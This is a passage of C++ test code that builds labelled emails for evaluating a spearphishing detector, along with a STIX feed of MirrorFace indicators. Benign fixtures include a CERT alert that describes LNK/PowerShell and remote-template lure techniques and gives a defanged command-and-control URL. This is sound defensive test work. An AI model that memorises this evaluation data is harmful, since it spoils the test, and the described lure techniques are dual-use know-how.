              "benign: retired diplomat from an ISP address, Shift_JIS", "ja", m);
    }
}

// ---- benign, English -------------------------------------------------------------------------

void benign_en(Collector& c) {
    {
        // SPF's English newsletter with a PDF report on maritime security.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("newsletter@spf.org",
                        received("mail.spf.org", "192.0.2.90", "mx.example.org", "A0B1C2D3E4", to,
                                 "Thu, 21 Nov 2024 06:00:19 +0000"),
                        auth_results("mx.example.org", "pass", "spf.org", "pass", "spf.org", "pass",
                                     "spf.org"));
        m.from_name = "Sasakawa Peace Foundation";
        m.from_addr = "newsletter@spf.org";
        m.to = to;
        m.subject = "SPF report: Maritime security in the Taiwan Strait and the East China Sea";
        m.date = "Thu, 21 Nov 2024 15:00:15 +0900";
        m.message_id = "<spf-nl-20241121@spf.org>";
        m.extra = {"List-Unsubscribe: <https://www.spf.org/en/newsletter/unsubscribe/>"};
        m.text =
            "Dear colleagues,\n\n"
            "The Sasakawa Peace Foundation has published a new report on maritime security in\n"
            "the Taiwan Strait and the East China Sea, with policy recommendations for Japan and\n"
            "the United States. The report is attached and available on our website:\n"
            "https://www.spf.org/en/global-data/\n\n"
            "Sasakawa Peace Foundation\nSecurity Studies Program\n";
        m.attachments.push_back(
            {"SPF_Maritime_Security_Report_2024.pdf", "application/pdf",
             pdf_document("Maritime Security in the Taiwan Strait",
                          {"SPF Security Studies Program", "Maritime security report 2024"})});
        c.add("ben_en_spf_report_pdf", false, "benign: think-tank report PDF on Taiwan Strait",
              "en", m);
    }
    {
        // A university invitation to a Taiwan Strait conference with an .ics.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace(
            "asia-center@fas.harvard.edu",
            received("mail-oln040092069048.outbound.protection.outlook.com", "192.0.2.48",
                     "mx.example.ac.jp", "CAFE001122", to, "Fri, 22 Nov 2024 23:10:55 +0900 (JST)"),
            auth_results("mx.example.ac.jp", "pass", "fas.harvard.edu", "pass", "harvard.edu",
                         "pass", "fas.harvard.edu"));
        m.from_name = "Asia Center Events";
        m.from_addr = "asia-center@fas.harvard.edu";
        m.to = to;
        m.subject = "Invitation: Conference on Cross-Strait Relations and Regional Security";
        m.date = "Fri, 22 Nov 2024 09:10:51 -0500";
        m.message_id = "<SN6PR07MB4527AB12CD@SN6PR07MB4527.namprd07.prod.outlook.com>";
        m.text =
            "Dear Professor Sato,\n\n"
            "We are delighted to invite you to speak on the Japan panel of our conference on\n"
            "cross-strait relations and regional security, held on January 24, 2025 in\n"
            "Cambridge, MA. A calendar invitation is attached; the programme is at\n"
            "https://asiacenter.harvard.edu/events\n\n"
            "With best wishes,\nAsia Center Events Team\n";
        m.attachments.push_back(
            {"invite.ics", "text/calendar",
             calendar("040000008200E00074C5B7101A82E008000000001A2B3C4D", "Asia Center Events",
                      "asia-center@fas.harvard.edu", to, "20250124T140000Z", "20250124T220000Z",
                      "Conference on Cross-Strait Relations and Regional Security",
                      "CGIS South\\, 1730 Cambridge Street\\, Cambridge MA",
                      "Japan panel: 10:30-12:00"),
             "2231", true});
        c.add("ben_en_university_taiwan_conference_ics", false,
              "benign: university conference invitation with .ics", "en", m);
    }
    {
        // CSIS newsletter on export controls.
        Mail m;
        std::string to = "compliance@example.com";
        m.trace = trace("bounce-mc.us7_1234567.890@mail204.atl121.mcsv.net",
                        received("mail204.atl121.mcsv.net", "192.0.2.204", "mx.example.com",
                                 "ABCD123456", to, "Tue, 26 Nov 2024 15:02:11 +0000"),
                        auth_results("mx.example.com", "pass", "mail204.atl121.mcsv.net", "pass",
                                     "csis.org", "pass", "csis.org"));
        m.from_name = "CSIS";
        m.from_addr = "newsletters@csis.org";
        m.to = to;
        m.subject = "The Latest on Export Controls: Semiconductors, Japan, and the Netherlands";
        m.date = "Tue, 26 Nov 2024 10:02:07 -0500";
        m.message_id = "<9f8e7d6c5b4a3928@csis.org>";
        m.extra = {"List-Unsubscribe: <https://csis.us7.list-manage.com/unsubscribe?u=abc>"};
        m.html =
            "<html><body><h1>Export Controls Update</h1>"
            "<p>New analysis on the expansion of controls on semiconductor manufacturing "
            "equipment and how Japan and the Netherlands are aligning their rules.</p>"
            "<p><a href=\"https://www.csis.org/analysis/japans-export-controls-semiconductors\">"
            "Read the analysis</a></p>"
            "<p><a href=\"https://www.csis.org/podcasts/ai-policy-podcast\">Listen: AI Policy "
            "Podcast</a></p>"
            "<p><a href=\"https://csis.us7.list-manage.com/unsubscribe?u=abc\">Unsubscribe</a>"
            "</p></body></html>";
        c.add("ben_en_csis_export_control_newsletter", false,
              "benign: US think-tank newsletter on export controls", "en", m);
    }
    {
        // A consultancy sends a docx with an ordinary external hyperlink.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("e.watson@example-advisory.com",
                        received("mail.example-advisory.com", "192.0.2.130", "mx-in.example.co.jp",
                                 "4Xf5g6h7i8j9", to, "Wed, 27 Nov 2024 09:12:41 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "example-advisory.com", "pass",
                                     "example-advisory.com", "pass", "example-advisory.com"));
        m.from_name = "Emma Watson";
        m.from_addr = "e.watson@example-advisory.com";
        m.to = to;
        m.subject = "Memo: BIS December rule and impact on your Japan operations";
        m.date = "Tue, 26 Nov 2024 19:12:37 -0500";
        m.message_id = "<CH3PR11MB7321C0D1E2@CH3PR11MB7321.namprd11.prod.outlook.com>";
        m.text =
            "Dear Nakamura-san,\n\n"
            "As promised, attached is our memo on the expected BIS rule on advanced computing\n"
            "and semiconductor manufacturing items, with a link to the Federal Register notice.\n"
            "Happy to walk your team through it next week.\n\n"
            "Best regards,\nEmma Watson\nExport Controls Practice\n";
        m.attachments.push_back(
            {"Memo_BIS_Rule_Japan_Ops.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             word_docx_with_link({"Memo: BIS rule on semiconductor manufacturing items",
                                  "Summary of changes", "Impact on Japan operations"},
                                 "https://www.federalregister.gov/documents/2024/12/05/",
                                 "Federal Register notice")});
        c.add("ben_en_consultancy_docx_hyperlink", false,
              "benign: docx with an ordinary hyperlink on export controls", "en", m);
    }
    {
        // JAXA English newsletter, DMARC pass.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace(
            "global-bounce@jaxa.jp",
            received("mlsv.jaxa.jp", "192.0.2.95", "mx.example.org", "1122334455", to,
                     "Fri, 29 Nov 2024 03:00:40 +0000"),
            auth_results("mx.example.org", "pass", "jaxa.jp", "pass", "jaxa.jp", "pass", "jaxa.jp"),
            {dkim_stub("jaxa.jp", "jx1")});
        m.from_name = "JAXA Global";
        m.from_addr = "global@jaxa.jp";
        m.to = to;
        m.subject = "JAXA Newsletter: SLIM results, H3 launch schedule, ISS Kibo research";
        m.date = "Fri, 29 Nov 2024 12:00:36 +0900";
        m.message_id = "<global-nl-202411@jaxa.jp>";
        m.text =
            "JAXA Newsletter, November 2024\n\n"
            "- SLIM: new results from the Smart Lander for Investigating Moon\n"
            "  https://global.jaxa.jp/projects/sas/slim/\n"
            "- H3 Launch Vehicle: schedule of the next launch\n"
            "  https://global.jaxa.jp/projects/rockets/h3/\n"
            "- Kibo: call for research proposals for 2025\n"
            "  https://iss.jaxa.jp/en/kiboexp/\n\n"
            "To unsubscribe: https://global.jaxa.jp/newsletter/\n"
            "Japan Aerospace Exploration Agency\n";
        c.add("ben_en_jaxa_newsletter", false, "benign: JAXA newsletter from jaxa.jp", "en", m);
    }
    {
        // MOFA English press release by mail.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("press-en@mofa.go.jp",
                        received("mailmag.mofa.go.jp", "192.0.2.10", "mx.example.org", "9988776655",
                                 to, "Tue, 3 Dec 2024 09:30:12 +0000"),
                        auth_results("mx.example.org", "pass", "mofa.go.jp", "pass", "mofa.go.jp",
                                     "pass", "mofa.go.jp"),
                        {dkim_stub("mofa.go.jp", "mailmag")});
        m.from_name = "Ministry of Foreign Affairs of Japan";
        m.from_addr = "press-en@mofa.go.jp";
        m.to = to;
        m.subject = "Press Release: Japan-Philippines Foreign Ministers' Meeting";
        m.date = "Tue, 3 Dec 2024 18:30:08 +0900";
        m.message_id = "<press-en-20241203-1830@mofa.go.jp>";
        m.text =
            "Press Release\n\n"
            "Japan-Philippines Foreign Ministers' Meeting\n\n"
            "The Foreign Ministers confirmed that the Reciprocal Access Agreement will enter\n"
            "into force soon and exchanged views on the situation in the South China Sea,\n"
            "the Taiwan Strait and North Korea.\n\n"
            "https://www.mofa.go.jp/s_sa/sea2/ph/pageite_000001_00789.html\n";
        c.add("ben_en_mofa_press_release", false, "benign: MOFA English press release", "en", m);
    }
    {
        // An academic on a .edu address shares a draft paper (PDF) on North Korea.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("jk2231@georgetown.edu",
                        received("mail-yw1-f176.google.com", "198.51.100.176", "mx.example.ac.jp",
                                 "1357924680", to, "Sun, 8 Dec 2024 10:22:14 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "georgetown.edu", "pass",
                                     "georgetown.edu", "pass", "georgetown.edu"),
                        {gmail_hop("e5f6", "Sat, 7 Dec 2024 17:22:11 -0800 (PST)")});
        m.from_name = "Jiyoung Kim";
        m.from_addr = "jk2231@georgetown.edu";
        m.to = to;
        m.subject = "Draft for the workshop: Russia-DPRK military cooperation";
        m.date = "Sat, 7 Dec 2024 20:22:09 -0500";
        m.message_id = "<CAPq9z1Lm3Xb0kT8rW@mail.gmail.com>";
        m.text =
            "Dear Professor Sato,\n\n"
            "Please find attached my draft paper for the Tokyo workshop on Russia-DPRK military\n"
            "cooperation after the 2024 treaty. Any comments would be very welcome.\n\n"
            "Best,\nJiyoung\n\n"
            "Jiyoung Kim, Ph.D.\nWalsh School of Foreign Service, Georgetown University\n";
        m.attachments.push_back(
            {"Kim_Russia_DPRK_draft.pdf", "application/pdf",
             pdf_document("Russia-DPRK Military Cooperation",
                          {"Draft - please do not cite", "Russia-DPRK military cooperation"})});
        c.add("ben_en_academic_draft_pdf_north_korea", false,
              "benign: academic draft PDF on North Korea", "en", m);
    }
    {
        // Japan Times digest on Russia-Ukraine and sanctions.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("bounce@newsletter.japantimes.co.jp",
                        received("o1.newsletter.japantimes.co.jp", "192.0.2.160", "mx.example.org",
                                 "ABCDEF0123", to, "Mon, 9 Dec 2024 21:00:33 +0000"),
                        auth_results("mx.example.org", "pass", "newsletter.japantimes.co.jp",
                                     "pass", "japantimes.co.jp", "pass", "japantimes.co.jp"));
        m.from_name = "The Japan Times";
        m.from_addr = "newsletter@japantimes.co.jp";
        m.to = to;
        m.subject = "Morning Briefing: Japan widens Russia sanctions; Ishiba to meet Trump";
        m.date = "Tue, 10 Dec 2024 06:00:29 +0900";
        m.message_id = "<jt-mb-20241210@japantimes.co.jp>";
        m.extra = {"List-Unsubscribe: <https://www.japantimes.co.jp/newsletter/unsubscribe>"};
        m.html =
            "<html><body><h2>Morning Briefing</h2>"
            "<p><a href=\"https://www.japantimes.co.jp/news/2024/12/10/japan/politics/"
            "russia-sanctions-expanded/\">Japan widens Russia sanctions over Ukraine war</a></p>"
            "<p><a href=\"https://www.japantimes.co.jp/news/2024/12/10/japan/politics/"
            "ishiba-trump-meeting/\">Ishiba seeks early meeting with Trump on alliance</a></p>"
            "<p><a href=\"https://www.japantimes.co.jp/newsletter/unsubscribe\">Unsubscribe</a>"
            "</p></body></html>";
        c.add("ben_en_japan_times_briefing", false, "benign: news digest on Ukraine and alliance",
              "en", m);
    }
    {
        // A colleague on gmail sends a calendar invite for a call on export controls.
        Mail m;
        std::string to = "compliance@example.com";
        m.trace = trace("mark.lee.dc@gmail.com",
                        received("mail-qk1-f182.google.com", "198.51.100.182", "mx.example.com",
                                 "2468ACE013", to, "Wed, 11 Dec 2024 16:40:02 +0000"),
                        gmail_auth("mx.example.com", "mark.lee.dc@gmail.com"),
                        {gmail_hop("f1a2", "Wed, 11 Dec 2024 08:40:00 -0800 (PST)")});
        m.from_name = "Mark Lee";
        m.from_addr = "mark.lee.dc@gmail.com";
        m.to = to;
        m.subject = "Invitation: Call on Japan export control alignment @ Thu Dec 19";
        m.date = "Wed, 11 Dec 2024 08:39:57 -0800";
        m.message_id = "<calendar-7b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0@google.com>";
        m.text =
            "Hi,\n\nSetting up a quick call to compare notes on how Tokyo is aligning its\n"
            "semiconductor export controls with the US rules.\n\nMark\n";
        m.attachments.push_back(
            {"invite.ics", "text/calendar",
             calendar("7b1c2d3e4f5061728394a5b6c7d8e9f0@google.com", "Mark Lee",
                      "mark.lee.dc@gmail.com", to, "20241219T140000Z", "20241219T143000Z",
                      "Call on Japan export control alignment",
                      "https://meet.google.com/abc-defg-hij", "Agenda: METI and BIS rules"),
             "2231", true});
        c.add("ben_en_gmail_calendar_invite_export_controls", false,
              "benign: personal free-mail calendar invite", "en", m);
    }
    {
        // Registration confirmation for a space security conference.
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace("bounces+1234@em.eventbrite.com",
                        received("o2.em.eventbrite.com", "192.0.2.170", "mx.space.example.ac.jp",
                                 "5544332211", to, "Thu, 12 Dec 2024 07:15:40 +0900 (JST)"),
                        auth_results("mx.space.example.ac.jp", "pass", "em.eventbrite.com", "pass",
                                     "eventbrite.com", "pass", "eventbrite.com"));
        m.from_name = "Secure World Foundation via Eventbrite";
        m.from_addr = "noreply@order.eventbrite.com";
        m.to = to;
        m.subject = "Your tickets for Summit for Space Sustainability 2025";
        m.date = "Wed, 11 Dec 2024 22:15:36 +0000";
        m.message_id = "<order-9876543210@eventbrite.com>";
        m.html =
            "<html><body><p>Hi Masato,</p><p>Your order for <b>Summit for Space Sustainability "
            "2025</b> is confirmed.</p><p><a href=\"https://www.eventbrite.com/mytickets/"
            "9876543210\">View your tickets</a></p><p>Topics include space security, debris "
            "mitigation and lunar cooperation.</p></body></html>";
        c.add("ben_en_conference_ticket_confirmation", false,
              "benign: event ticket confirmation on space security", "en", m);
    }
}

}  // namespace

namespace {

// ---- benign that describes the attacks themselves --------------------------------------------

void benign_about_attacks(Collector& c) {
    {
        // A CERT alert describing the campaign, with defanged indicators (not on the feed).
        Mail m;
        std::string to = "security@example.go.jp";
        m.trace = trace("ml-bounce@jpcert.or.jp",
                        received("mail.jpcert.or.jp", "192.0.2.180", "mx01.example.go.jp",
                                 "4XjP1c2E3r4T", to, "Wed, 8 Jan 2025 14:00:21 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "jpcert.or.jp", "pass",
                                     "jpcert.or.jp", "pass", "jpcert.or.jp"));
        m.header_charset = "ISO-2022-JP";
        m.charset = "ISO-2022-JP";
        m.cte = "7bit";
        m.from_name = "JPCERT/CC";
        m.from_addr = "alert-ml@jpcert.or.jp";
        m.to = to;
        m.subject = "JPCERT/CC Alert 2025-01-08 日本の組織を狙った標的型攻撃に関する注意喚起";
        m.date = "Wed, 8 Jan 2025 14:00:17 +0900";
        m.message_id = "<20250108140017.alert@jpcert.or.jp>";
        m.text =
            "JPCERT-AT-2025-0001\nJPCERT/CC\n2025-01-08\n\n"
            "I. 概要\n"
            "2024年以降、日本の安全保障、外交、先端技術に関わる組織や個人を狙った\n"
            "標的型攻撃メールが継続して確認されています。攻撃者は実在の省庁や研究機関を\n"
            "かたり、フリーメールアドレスから日米同盟や台湾情勢をテーマにしたメールを送付します。\n"
            "\n"
            "II. 手口\n"
            "- パスワード付き ZIP ファイルを添付し、本文にパスワードを記載する\n"
            "- ZIP 内に文書ファイルを装ったショートカット(LNK)ファイルを含め、\n"
            "  PowerShell を実行させる\n"
            "- マクロ付き文書や、外部のテンプレートを読み込む Word 文書を使う\n\n"
            "III. 確認された通信先の例\n"
            "hxxps://cdn.hokubei-docs[.]test/api/v2/sync\n\n"
            "IV. 対策\n"
            "不審なメールの添付ファイルは開かず、組織の担当部署へ報告してください。\n"
            "https://www.jpcert.or.jp/at/2025/at250001.html\n\n"
            "一般社団法人JPCERTコーディネーションセンター\n";
        c.add("ben_ja_cert_alert_describes_campaign", false,
              "benign: CERT alert describing the techniques with a defanged indicator", "ja", m);
    }
    {
        // A security vendor's research digest on the same actor (English).
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("bounce@news.welivesecurity.com",
                        received("mta-14.news.welivesecurity.com", "192.0.2.214", "mx.example.org",
                                 "F0E1D2C3B4", to, "Thu, 9 Jan 2025 13:00:05 +0000"),
                        auth_results("mx.example.org", "pass", "news.welivesecurity.com", "pass",
                                     "welivesecurity.com", "pass", "welivesecurity.com"));
        m.from_name = "WeLiveSecurity";
        m.from_addr = "newsletter@welivesecurity.com";
        m.to = to;
        m.subject = "Research digest: spearphishing of Japanese policy experts continues";
        m.date = "Thu, 9 Jan 2025 14:00:01 +0100";
        m.message_id = "<wls-digest-20250109@welivesecurity.com>";
        m.html =
            "<html><body><h2>Research digest</h2>"
            "<p>Our researchers describe a campaign against Japanese think tanks and "
            "politicians: emails impersonating research institutes, password-protected ZIP "
            "archives with the password in the body, malicious LNK files that launch "
            "PowerShell, and Word documents with remote templates.</p>"
            "<p><a href=\"https://www.welivesecurity.com/en/eset-research/"
            "operation-ak47-mirrorface/\">Read the full report</a></p>"
            "<p><a href=\"https://www.welivesecurity.com/newsletter/unsubscribe\">Unsubscribe"
            "</a></p></body></html>";
        c.add("ben_en_vendor_research_digest", false,
              "benign: security vendor newsletter about the campaign", "en", m);
    }
    {
        // An English IT notice on macro policy and Office updates.
        Mail m;
        std::string to = "staff@example.org";
        m.trace = trace("it-support@example.org",
                        received("smtp-int.example.org", "192.0.2.4", "mx.example.org",
                                 "1A1B1C1D1E", to, "Mon, 13 Jan 2025 00:30:02 +0000"),
                        auth_results("mx.example.org", "pass", "example.org", "pass", "example.org",
                                     "pass", "example.org"));
        m.from_name = "IT Support";
        m.from_addr = "it-support@example.org";
        m.to = to;
        m.subject = "Action required: Office update and new macro policy";
        m.date = "Sun, 12 Jan 2025 19:30:00 -0500";
        m.message_id = "<it-notice-2025-01-12@example.org>";
        m.text =
            "Hello all,\n\n"
            "This week we are rolling out the January Office update. From Friday, macros in\n"
            "files from the internet will be blocked, and shortcut (.lnk) and .iso attachments\n"
            "will be quarantined by the mail gateway.\n\n"
            "If a colleague sends you a spreadsheet that needs macros, ask IT to review it; never\n"
            "click \"Enable Content\" on a file you did not expect. You can check that the update\n"
            "is installed by running this in PowerShell:\n"
            "  Get-ItemProperty HKLM:\\Software\\Microsoft\\Office\\ClickToRun\\Configuration\n\n"
            "Thanks,\nIT Support\n";
        c.add("ben_en_it_notice_macro_policy", false,
              "benign: IT notice about macros, LNK, ISO and PowerShell", "en", m);
    }
}

}  // namespace

std::vector<LabelledMessage> evaluation_set() {
    Collector c;
    malicious_ja(c);
    malicious_en(c);
    malicious_hard(c);
    benign_ja(c);
    benign_en(c);
    benign_about_attacks(c);
    return std::move(c.out);
}

std::string evaluation_feed() {
    std::string sha = core::sha256_hex(feed_hash_document());
    auto indicator = [](const std::string& id, const std::string& name,
                        const std::string& pattern) {
        return "    {\n      \"type\": \"indicator\",\n      \"spec_version\": \"2.1\",\n"
               "      \"id\": \"indicator--" +
               id +
               "\",\n      \"created\": \"2024-12-01T00:00:00.000Z\",\n"
               "      \"modified\": \"2024-12-01T00:00:00.000Z\",\n      \"name\": \"" +
               name +
               "\",\n      \"indicator_types\": [\"malicious-activity\"],\n"
               "      \"pattern\": \"" +
               pattern +
               "\",\n      \"pattern_type\": \"stix\",\n"
               "      \"valid_from\": \"2024-12-01T00:00:00Z\"\n    }";
    };
    auto relationship = [](const std::string& id, const std::string& source) {
        return "    {\n      \"type\": \"relationship\",\n      \"spec_version\": \"2.1\",\n"
               "      \"id\": \"relationship--" +
               id +
               "\",\n      \"created\": \"2024-12-01T00:00:00.000Z\",\n"
               "      \"modified\": \"2024-12-01T00:00:00.000Z\",\n"
               "      \"relationship_type\": \"indicates\",\n"
               "      \"source_ref\": \"indicator--" +
               source +
               "\",\n      \"target_ref\": "
               "\"intrusion-set--6a1f3c52-8d3e-4b0a-9f21-0c7e5d4b3a10\"\n    }";
    };
    struct Entry {
        std::string id, name, pattern;
    };
    std::vector<Entry> entries = {
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000001", "file-sharing URL",
         "[url:value = '" + kFeedUrl + "']"},
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000002", "review-draft URL",
         "[url:value = '" + kFeedUrl2 + "']"},
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000003", "staging domain",
         "[domain-name:value = '" + kFeedDomain + "']"},
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000004", "download server",
         "[ipv4-addr:value = '" + kFeedIp + "']"},
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000005", "lure sender",
         "[email-addr:value = '" + kFeedSender + "']"},
        {"0b6f1f3e-1c2d-4e5f-8a9b-000000000006", "lure document",
         "[file:hashes.'SHA-256' = '" + sha + "']"},
    };
    std::string json =
        "{\n  \"type\": \"bundle\",\n  \"id\": \"bundle--5d0c9a1e-7f3b-4c2d-8e1a-9b0f6e5d4c3b\",\n"
        "  \"objects\": [\n"
        "    {\n      \"type\": \"intrusion-set\",\n      \"spec_version\": \"2.1\",\n"
        "      \"id\": \"intrusion-set--6a1f3c52-8d3e-4b0a-9f21-0c7e5d4b3a10\",\n"
        "      \"created\": \"2024-12-01T00:00:00.000Z\",\n"
        "      \"modified\": \"2024-12-01T00:00:00.000Z\",\n"
        "      \"name\": \"MirrorFace\",\n      \"aliases\": [\"Earth Kasha\"]\n    }";
    int n = 0;
    for (const auto& e : entries) {
        json += ",\n" + indicator(e.id, e.name, e.pattern);
        json +=
            ",\n" + relationship("1c7e2f4a-3b5d-4c6e-9f80-00000000000" + std::to_string(++n), e.id);
    }
    return json + "\n  ]\n}\n";
}

}  // namespace kagami::test
